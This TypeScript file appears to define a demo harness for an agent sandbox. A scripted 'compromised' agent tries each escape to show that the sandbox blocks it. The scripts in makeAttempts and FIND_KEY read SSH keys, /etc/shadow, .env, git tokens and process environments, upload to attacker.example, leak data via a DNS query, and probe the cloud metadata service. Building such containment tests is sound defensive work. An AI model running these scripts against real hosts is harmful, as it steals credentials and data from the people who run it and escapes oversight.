import { DEMO_HOST } from "./origin.ts";

/** Something that the scripted agent tries, in the words of the table that is shown. */
export type Attempt = {
  readonly id: string;
  readonly what: string;
  /** What a bottle owes: the attempt works because it was granted, or it fails */
  readonly owed: "works" | "fails";
  /** Body of an async function, run inside by Node; what it returns is what the agent got */
  readonly script: string;
};

/** What the attempts are made against. */
export type DemoTargets = {
  /** Folder of the host with a made-up key in it */
  readonly hostHome: string;
  /** Port of a service on the host's loopback */
  readonly hostPort: number;
};

const READ = 'const { readFile, readdir, writeFile } = await import("node:fs/promises");';

/** Everything the agent tries, in the order of the table. */
export function makeAttempts({ hostHome, hostPort }: DemoTargets): readonly Attempt[] {
  return [
    {
      id: "work",
      what: "change a file of the repository",
      owed: "works",
      script: `${READ} await writeFile("src/hello.js", "export const hello = 'bottle';\\n"); return "src/hello.js written";`,
    },
    {
      id: "git",
      what: "commit the change",
      owed: "works",
      script: `const { execFileSync } = await import("node:child_process"); execFileSync("git", ["commit", "-qam", "Say hello"]); return execFileSync("git", ["log", "--oneline", "-1"]).toString().trim();`,
    },
    {
      id: "api",
      what: "call the service it was granted",
      owed: "works",
      script: fetchVia(`https://${DEMO_HOST}/hello`),
    },
    {
      id: "credential",
      what: "find the key that this call was made with",
      owed: "fails",
      script: `${READ} ${FIND_KEY}`,
    },
    {
      id: "other-host",
      what: "send the code somewhere else",
      owed: "fails",
      script: fetchVia("https://attacker.example/upload"),
    },
    {
      id: "proxy-metadata",
      what: "reach the metadata service through the proxy",
      owed: "fails",
      script: fetchVia("https://169.254.169.254/latest/"),
    },
    {
      id: "ssh-key",
      what: "read an SSH key of the host",
      owed: "fails",
      script: `${READ} return await readFile(${JSON.stringify(`${hostHome}/.ssh/id_ed25519`)}, "utf8");`,
    },
    {
      id: "shadow",
      what: "read /etc/shadow",
      owed: "fails",
      script: `${READ} return await readFile("/etc/shadow", "utf8");`,
    },
    {
      id: "dotenv",
      what: "read the repository's .env",
      owed: "fails",
      script: `${READ} return await readFile(".env", "utf8");`,
    },
    {
      id: "git-token",
      what: "find the token in .git/config",
      owed: "fails",
      script: `${READ} const text = await readFile(".git/config", "utf8"); if (!/x-access-token|AUTHORIZATION/i.test(text)) throw new Error("the remote is there, its token is not"); return text;`,
    },
    {
      id: "environment",
      what: "find a secret in any environment",
      owed: "fails",
      script: `${READ} const found = [JSON.stringify(process.env)]; for (const pid of (await readdir("/proc")).filter(Number)) found.push(await readFile("/proc/" + pid + "/environ", "utf8").catch(() => "")); const hit = found.join("\\n").match(/DEMO_SECRET=[^\\0\\n]*/); if (!hit) throw new Error("looked at " + found.length + ", nothing there"); return hit[0];`,
    },
    {
      id: "processes",
      what: "see processes of the host",
      owed: "fails",
      script: `${READ} const pids = (await readdir("/proc")).filter(Number); const names = await Promise.all(pids.map((pid) => readFile("/proc/" + pid + "/comm", "utf8").catch(() => ""))); const others = names.map((name) => name.trim()).filter((name) => name && !["bwrap", "node", "MainThread"].includes(name)); if (others.length === 0) throw new Error("only its own " + pids.length); return others.join(" ");`,
    },
    {
      id: "system",
      what: "replace a program in /usr/bin",
      owed: "fails",
      script: `${READ} await writeFile("/usr/bin/git", ""); return "written";`,
    },
    {
      id: "host-port",
      what: "reach a service on the host's loopback",
      owed: "fails",
      script: connect("127.0.0.1", hostPort),
    },
    { id: "address", what: "reach 1.1.1.1 by its address", owed: "fails", script: connect("1.1.1.1", 443) },
    {
      id: "metadata",
      what: "reach the cloud's metadata service",
      owed: "fails",
      script: connect("169.254.169.254", 80),
    },
    {
      id: "dns",
      what: "send data out in a DNS question",
      owed: "fails",
      script: `const { resolve4 } = await import("node:dns/promises"); return (await resolve4("secret.attacker.example")).join(" ");`,
    },
  ];
}

/** Everything that can be read inside, searched for what looks like the service's key */
const FIND_KEY = `
    const seen = [JSON.stringify(process.env)];
    for (const pid of (await readdir("/proc")).filter(Number)) seen.push(await readFile("/proc/" + pid + "/environ", "utf8").catch(() => ""));
    for (const folder of ["/etc", process.env.HOME, "/run", "/tmp"]) {
      for (const name of await readdir(folder, { recursive: true }).catch(() => [])) if (!name.startsWith("alternatives")) seen.push(await readFile(folder + "/" + name, "utf8").catch(() => ""));
    }
    const hit = seen.join("\\n").match(new RegExp("demo-key" + "-of-the-service\\\\S*"));
    if (!hit) throw new Error("looked at " + seen.length + " files and environments");
    return hit[0];`;

/** A request as any client makes it: through the proxy that the environment names, TLS checked. */
function fetchVia(url: string): string {
  return `return await request(${JSON.stringify(url)});`;
}

const REQUEST = `
const http = await import("node:http");
const https = await import("node:https");
const tls = await import("node:tls");
function request(url) {
  const { hostname, host, pathname } = new URL(url);
  return new Promise((resolve, reject) => {
    const proxy = new URL(process.env.HTTPS_PROXY);
    const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: hostname + ":443", headers: { host: hostname + ":443" } });
    connect.on("error", reject).on("connect", (answer, socket) => {
      if (answer.statusCode !== 200) return reject(new Error(answer.statusCode + " " + answer.statusMessage));
      const secure = tls.connect({ socket, servername: /^[0-9.]+$/.test(hostname) ? "" : hostname, host: hostname });
      secure.on("error", reject);
      https.get({ host, port: 443, headers: { host }, path: pathname, createConnection: () => secure }, (response) => {
        let body = "";
        response.setEncoding("utf8").on("data", (part) => (body += part)).on("end", () => {
          if (response.statusCode === 200) return resolve("200 " + body);
          let why = body;
          try { why = JSON.parse(body).error.message; } catch {}
          reject(new Error(response.statusCode + " " + why));
        });
      }).on("error", reject);
    }).end();
  });
}
`;

/** The program that the agent runs: every attempt in turn, one line of JSON each. */
export function renderAgent(attempts: readonly Attempt[]): string {
  const entries = attempts.map(({ id, script }) => `  [${JSON.stringify(id)}, async () => { ${script} }],`);
  return `// A scripted agent that does what a compromised one would do.
${REQUEST}
const attempts = [
${entries.join("\n")}
];
for (const [id, attempt] of attempts) {
  const timeout = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 3000).unref());
  const result = await Promise.race([attempt(), timeout]).then(
    (got) => ({ id, worked: true, got: String(got) }),
    (error) => ({ id, worked: false, got: error.code ?? error.message }),
  );
  console.log(JSON.stringify(result));
}
process.exit(0);
`;
}

function connect(host: string, port: number): string {
  return `const net = await import("node:net"); return await new Promise((resolve, reject) => { const socket = net.connect(${port}, ${JSON.stringify(host)}, () => resolve("connected")); socket.on("error", reject); });`;
}
